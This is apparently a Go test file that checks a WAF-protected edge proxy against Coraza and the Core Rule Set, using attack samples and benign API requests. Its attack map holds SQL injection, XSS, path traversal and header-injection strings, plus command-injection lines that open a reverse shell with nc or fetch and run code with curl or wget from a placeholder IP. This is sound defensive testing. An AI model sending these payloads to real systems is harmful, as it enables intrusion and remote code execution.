package protect

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sort"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	txhttp "github.com/corazawaf/coraza/v3/http"

	"github.com/edgeward/edgeward/internal/edge"
)

// attacks is a sample of attack payloads per CRS class, written for this
// test after the classes of the CRS regression tests (REQUEST-930 to
// 942): each is sent in every location below.
var attacks = map[string][]string{
	"sqli": {
		`1' OR '1'='1`,
		`1 UNION SELECT username, password FROM users--`,
		`'; DROP TABLE orders;--`,
		`1 AND SLEEP(5)`,
		`admin'--`,
		`1' AND extractvalue(1,concat(0x7e,version()))--`,
	},
	"xss": {
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(document.cookie)>`,
		`javascript:alert(1)`,
		`<svg/onload=alert(1)>`,
		`"><iframe src=javascript:alert(1)>`,
	},
	"lfi": {
		`../../../../etc/passwd`,
		`....//....//....//etc/shadow`,
		`/proc/self/environ`,
		`..\..\..\windows\win.ini`,
	},
	"rce": {
		`; cat /etc/passwd`,
		`| nc -e /bin/sh 198.51.100.1 4444`,
		`$(curl http://198.51.100.1/x.sh|sh)`,
		"`id`",
		`;wget http://198.51.100.1/a -O /tmp/a`,
	},
	"protocol": {
		"foo\r\nSet-Cookie: session=attacker",
		"x\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal",
		"bar\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
	},
}

// benign is API traffic that must pass at PL1: JSON bodies, JWTs,
// base64, non-ASCII names, long query strings.
func benign() []*http.Request {
	jwt := "eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhbGljZSIsImF1ZCI6Imh0dHBzOi8vYXBpLmV4YW1wbGUuY29tIiwic2NvcGUiOiJvcmRlcnM6cmVhZCIsImV4cCI6MTc5OTk5OTk5OX0.c2lnbmF0dXJlLWJ5dGVzLWhlcmUtbm90LXJlYWwtYnV0LWxvbmctZW5vdWdoLXRvLWxvb2stbGlrZS1vbmU"
	long := url.Values{}
	for i := range 60 {
		long.Set(fmt.Sprintf("field%d", i), fmt.Sprintf("value-%d-abcdefghij", i))
	}
	mk := func(method, target, ctype, body string, hdr ...string) *http.Request {
		var rd io.Reader
		if body != "" {
			rd = strings.NewReader(body)
		}
		r, _ := http.NewRequest(method, target, rd)
		if ctype != "" {
			r.Header.Set("Content-Type", ctype)
		}
		for i := 0; i+1 < len(hdr); i += 2 {
			r.Header.Set(hdr[i], hdr[i+1])
		}
		return r
	}
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	_ = mw.WriteField("title", "Quarterly report – Zoë")
	fw, _ := mw.CreateFormFile("file", "report.csv")
	_, _ = fw.Write([]byte("id,name,amount\n1,Søren,12.50\n2,李小龙,7\n"))
	_ = mw.Close()
	return []*http.Request{
		mk("GET", "/orders/42", "", "", "Authorization", "Bearer "+jwt),
		mk("GET", "/orders?"+long.Encode(), "", "", "Authorization", "Bearer "+jwt),
		mk("GET", "/search?q="+url.QueryEscape("Zoë Ångström 李小龙 Ωmega")+"&sort=-created_at&page=2", "", ""),
		mk("GET", "/files?sig="+url.QueryEscape("dGhpcyBpcyBiYXNlNjQrLz0/Pz4+Cg==")+"&exp=1799999999", "", ""),
		mk("POST", "/orders", "application/json", `{"item":"book","qty":2,"customer":{"name":"Zoë Ångström","email":"zoe@example.com","city":"Malmö"},"note":"Leave at the door, please.","tags":["gift","express"]}`),
		mk("PUT", "/orders/42", "application/json", `{"id":"3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f","status":"shipped","shipped_at":"2026-01-02T03:04:05Z","tracking":"1Z999AA10123456784"}`),
		mk("PATCH", "/users/7", "application/merge-patch+json", `{"display_name":"李小龙","bio":"Ünïcödé fan; loves café au lait","avatar_png":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`),
		mk("POST", "/tokens", "application/x-www-form-urlencoded", "grant_type=client_credentials&client_id=orders-app&scope=orders%3Aread+orders%3Awrite"),
		mk("POST", "/uploads", mw.FormDataContentType(), mp.String()),
		mk("POST", "/events", "application/json", `{"events":[{"type":"click","ts":1767322800,"props":{"button":"buy","price":12.5}},{"type":"view","ts":1767322801,"props":{"page":"/orders/42"}}]}`),
		mk("DELETE", "/orders/42", "", "", "Authorization", "Bearer "+jwt),
		mk("GET", "/orders/42", "", "", "Cookie", "session=YWxpY2U6MTc2NzMyMjgwMA%3D%3D; theme=dark", "Accept-Language", "sv-SE,sv;q=0.9,en;q=0.8"),
	}
}

// locations place a payload in one part of a request.
var locations = map[string]func(p string) *http.Request{
	"query": func(p string) *http.Request {
		r, _ := http.NewRequest("GET", "/orders?q="+url.QueryEscape(p), nil)
		return r
	},
	"json": func(p string) *http.Request {
		var b bytes.Buffer
		fmt.Fprintf(&b, `{"note":%q}`, p)
		r, _ := http.NewRequest("POST", "/orders", &b)
		r.Header.Set("Content-Type", "application/json")
		return r
	},
	"urlencoded": func(p string) *http.Request {
		r, _ := http.NewRequest("POST", "/orders", strings.NewReader("note="+url.QueryEscape(p)))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		return r
	},
	"multipart": func(p string) *http.Request {
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		_ = mw.WriteField("note", p)
		_ = mw.Close()
		r, _ := http.NewRequest("POST", "/orders", &b)
		r.Header.Set("Content-Type", mw.FormDataContentType())
		return r
	},
	"cookie": func(p string) *http.Request {
		r, _ := http.NewRequest("GET", "/orders", nil)
		r.Header.Set("Cookie", "pref="+strings.NewReplacer("\r", "%0d", "\n", "%0a", ";", "%3b").Replace(p))
		return r
	},
	"header": func(p string) *http.Request {
		r, _ := http.NewRequest("GET", "/orders", nil)
		r.Header.Set("Referer", "https://example.com/?"+strings.NewReplacer("\r", "%0d", "\n", "%0a").Replace(p))
		return r
	},
}

// recordingOrigin is the edge's origin in the detection test: it keeps
// nothing and answers 200.
type recordingOrigin struct{}

func (recordingOrigin) Forward(w http.ResponseWriter, r *edge.Request) error {
	_, _ = io.Copy(io.Discard, r.HTTP.Body)
	w.WriteHeader(http.StatusOK)
	return nil
}

// TestDetection_EdgeDetectsWhatCorazaAloneDetects replays the attack
// sample through a real edge (CRS PL1, block) and through Coraza alone
// (its own net/http middleware, the same CRS without the tuning of
// wafspeed.go, so that a tuning that loses a detection fails): every request
// Coraza alone blocks, the edge refuses too (403, or 400 for a request it
// refuses before any rule). The benign set passes the edge at PL1.
func TestDetection_EdgeDetectsWhatCorazaAloneDetects(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles the CRS twice and sends a few hundred requests")
	}
	cfg := SetConfig{WAF: WAFConfig{Mode: ModeBlock}}
	cfg.Defaults()
	set := build(t, one(cfg), Options{})
	edgeURL := startEdge(t, set)

	w, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).WithDirectives(crsDirectives(cfg.WAF, false)))
	if err != nil {
		t.Fatal(err)
	}
	alone := httptest.NewServer(txhttp.WrapHandler(w, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
	})))
	t.Cleanup(alone.Close)

	type tally = struct{ total, alone, edge int }
	byClass := map[string]*tally{}
	byLocation := map[string]*tally{}
	for class, payloads := range attacks {
		for loc, mk := range locations {
			for _, p := range payloads {
				a := send(t, alone.URL, mk(p))
				e := send(t, edgeURL, mk(p))
				blockedAlone := a == 403
				blockedEdge := e == 403 || e == 400
				for _, tl := range []*tally{get(byClass, class), get(byLocation, loc)} {
					tl.total++
					if blockedAlone {
						tl.alone++
					}
					if blockedEdge {
						tl.edge++
					}
				}
				if blockedAlone && !blockedEdge {
					t.Errorf("%s in %s %q: Coraza alone %d, the edge %d", class, loc, p, a, e)
				}
			}
		}
	}
	for _, m := range []map[string]*tally{byClass, byLocation} {
		keys := make([]string, 0, len(m))
		for k := range m {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			t.Logf("DETECTION %-10s payloads %3d  coraza-alone %3d  edge %3d", k, m[k].total, m[k].alone, m[k].edge)
		}
	}
	fp := 0
	for _, r := range benign() {
		if s := send(t, edgeURL, r); s != 200 {
			fp++
			t.Errorf("false positive: %s %s = %d", r.Method, r.URL, s)
		}
	}
	t.Logf("FALSE-POSITIVES %d of %d benign requests at PL1", fp, len(benign()))
}

func get(m map[string]*struct{ total, alone, edge int }, k string) *struct{ total, alone, edge int } {
	if m[k] == nil {
		m[k] = &struct{ total, alone, edge int }{}
	}
	return m[k]
}

// startEdge serves one catch-all behavior protected by set on loopback.
func startEdge(t *testing.T, set *Set) string {
	t.Helper()
	s, err := edge.New(edge.Config{}, []edge.Behavior{{
		PathPattern: "*", AllowedMethods: []string{"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"},
		OriginID: "o", Origin: recordingOrigin{}, Protection: set,
	}}, edge.Options{})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Serve(ctx, ln) }()
	t.Cleanup(func() { cancel(); <-done })
	return "http://" + ln.Addr().String()
}

// send sends r to base and returns the status.
func send(t *testing.T, base string, r *http.Request) int {
	t.Helper()
	u, _ := url.Parse(base + r.URL.RequestURI())
	r.URL = u
	r.Host = u.Host
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatalf("%s %s: %v", r.Method, u, err)
	}
	_, _ = io.Copy(io.Discard, res.Body)
	res.Body.Close()
	return res.StatusCode
}
